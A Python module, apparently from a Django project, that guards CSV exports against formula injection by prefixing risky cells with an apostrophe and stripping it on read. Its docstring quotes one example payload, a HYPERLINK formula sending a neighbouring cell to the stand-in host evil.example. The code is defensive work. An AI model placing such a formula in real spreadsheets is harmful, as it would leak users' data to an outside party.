"""Text cells a spreadsheet will not run as formulas, written and read back.

A spreadsheet opening a CSV file runs a cell that starts with =, +, -, @, tab or
carriage return as a formula: `=HYPERLINK("http://evil.example/?x="&A1)` in a claim's
text would send the cell next to it away. OWASP's rule for CSV injection is to write
such a cell with a leading apostrophe, which spreadsheets take as "this is text".

So that every text reads back as it was, a text that already starts with apostrophes
followed by one of those characters gets one apostrophe more too: reading a cell
strips one apostrophe exactly when the cell starts with apostrophes and then one of
those characters. Other texts, `'quoted'` for one, are written as they are.
"""

import re

from django.db.models import Case, F, Func, Q, TextField, Value, When
from django.db.models.functions import Concat, Left, Ord
from django.db.models.lookups import In

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_CODES = [ord(start) for start in FORMULA_STARTS]
APOSTROPHE = ord("'")
QUOTED_FORMULA = re.compile("'+[=+@\t\r-]")


def formula_safe(field: str) -> Case:
    """Return the column `field` with an apostrophe before a formula's start.

    One CASE per row and cell on the first character's code (Ord: ASCII() on
    PostgreSQL, UNICODE() on SQLite), which reads no further into the text; only a
    text that starts with an apostrophe is looked at past its leading apostrophes.
    """
    first = Ord(field)
    after_apostrophes = Left(
        Func(F(field), Value("'"), function="LTRIM", output_field=TextField()), 1
    )
    return Case(
        When(
            Q(In(first, [*FORMULA_CODES, APOSTROPHE]))
            & (Q(In(first, FORMULA_CODES)) | Q(In(after_apostrophes, FORMULA_STARTS))),
            then=Concat(Value("'"), F(field), output_field=TextField()),
        ),
        default=F(field),
        output_field=TextField(),
    )


def formula_unquoted(cell: str) -> str:
    """Return the text a cell written by formula_safe() holds."""
    return cell[1:] if QUOTED_FORMULA.match(cell) else cell
